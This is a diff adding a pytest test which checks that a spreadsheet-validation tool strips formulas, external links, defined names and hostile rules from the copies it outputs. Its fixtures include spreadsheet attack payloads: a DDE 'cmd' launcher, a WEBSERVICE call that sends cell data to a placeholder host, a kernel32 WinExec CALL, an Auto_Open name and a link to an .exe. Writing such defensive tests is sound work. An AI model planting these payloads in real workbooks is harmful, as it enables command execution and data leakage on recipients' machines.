@@ -3,16 +3,22 @@
 from __future__ import annotations
 
 import hashlib
+import re
 import zipfile
+from datetime import datetime
 
 import pytest
 from openpyxl import load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from tests.support.office import lead
-from tests.support.workbooks import DATA, accepted, rewrite
+from tests.support.workbooks import DATA, accepted, rewrite, said
 from workbench.core.colours import BAD, NOTE, WARN, bare
 from workbench.core.findings import Finding, Severity
 from workbench.platform.forms.annotate import annotate
+from workbench.platform.forms.fixing import fix_file
 
 RED, YELLOW, BLUE = (bare(colour) for colour in (BAD, WARN, NOTE))
 HEADS = ("序号", "级别", "工作表", "单元格", "栏目", "条款", "问题与处理")
@@ -197,3 +203,61 @@ def test_text_that_looks_like_a_formula_stays_text(lead_record, tmp_path):
     with zipfile.ZipFile(out) as archive:
         sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
     assert not [raw for raw in sheets if b"<f>" in raw]
+
+
+def with_formulas(raw):
+    """Formulas with and without results, as a sender may write them."""
+    for cell, kind, formula, result in (
+        ("M7", "", "TODAY()", "<v>46035</v>"),
+        ("Q7", ' t="str"', "cmd|'/C calc'!A0", "<v>=渠道</v>"),
+        ("O8", "", "B1*8", ""),
+        ("L8", "", "[1]Sheet1!A1", "<v>12</v>"),
+        ("T8", ' t="e"', '_xlfn.WEBSERVICE("http://example.org/?"&amp;H7)', "<v>#N/A</v>"),
+        ("X3", ' t="str"', 'CALL("kernel32","WinExec","JCJ","calc",0)', "<v></v>"),
+    ):
+        spelt = f'<c r="{cell}"\\1{kind}><f>{formula}</f>{result}</c>'.encode()
+        raw, found = re.subn(rb'<c r="%s"( s="\d+")?[^>]*?(?:/>|>.*?</c>)' % cell.encode(), spelt, raw)
+        assert found == 1
+    return raw
+
+
+@pytest.mark.parametrize("copied", ["marked", "corrected"])
+def test_a_copy_calculates_nothing_and_leads_nowhere(lead_record, tmp_path, copied):
+    """What a formula showed is what stands there; links, names and rules that ask others are gone; the form is the same form."""
+
+    def harm(sheet):
+        sheet["X3"] = "x"
+        sheet["B7"].hyperlink = "file://example.org/x.exe"
+        sheet.parent.defined_names["_xlnm.Auto_Open"] = DefinedName("_xlnm.Auto_Open", attr_text="cmd|'/C calc'!A0")
+        sheet.defined_names["z"] = DefinedName("z", attr_text='_xlfn.WEBSERVICE("http://example.org/")')
+        sheet["M7"].number_format = "yyyy-mm-dd"
+
+        for formula in ('_xlfn.WEBSERVICE("http://example.org/")', "[1]Sheet1!A1", "cmd|'/C calc'!A0"):
+            sheet.conditional_formatting.add("X7:X9", FormulaRule([f"{formula}=1"]))
+            sheet.add_data_validation(DataValidation("list", formula, sqref="X7:X9"))
+        sheet.conditional_formatting.add("Y7", FormulaRule(['Y7="[|]"']))
+
+    filled = {"信息来源": "x", "标的量(台)": 1, "备注": "x", "采购预算(万元)": 1, "预计采购时间": "x"}
+    path = lead_record(lead("江城　公交", **filled), lead("江城物流", **filled), change=harm)
+    form = accepted(rewrite(path, DATA, with_formulas))
+    assert said(form) == [("not_a_date", "M8", "warning"), ("error_cell", "O8", "error"), ("error_cell", "T8", "error")]
+    if copied == "marked":
+        out = annotate(form, form.findings, tmp_path / "批注.xlsx")
+    else:
+        _, out = fix_file(path, tmp_path / "更正")
+    with zipfile.ZipFile(out) as archive:
+        parts = [archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels"))]
+    assert not [raw for raw in parts if re.search(b'<f[ >/]|"External"', raw)]
+    book = load_workbook(out)
+    sheet = book.worksheets[0]
+    assert (dict(book.defined_names), dict(sheet.defined_names)) == ({}, {})
+    assert (sheet["Q7"].value, sheet["Q7"].data_type, sheet["L8"].value, sheet["X3"].value) == ("=渠道", "s", 12, None)
+    assert (sheet["M7"].value, sheet["B7"].hyperlink) == (datetime(2026, 1, 13), None)
+    before = load_workbook(path).worksheets[0]
+    rules, looks = sheet.data_validations.dataValidation, {str(each.sqref) for each in sheet.conditional_formatting}
+    assert len(rules) == len(before.data_validations.dataValidation) - 3
+    assert looks == {str(each.sqref) for each in before.conditional_formatting} - {"X7:X9"} and "Y7" in looks
+    assert sheet.print_title_rows == before.print_title_rows is not None
+    again = accepted(out)
+    assert said(again) == said(form)
+    assert again.rows["expected"].tolist() == form.rows["expected"].tolist() == ["2026-01-13", "x"]
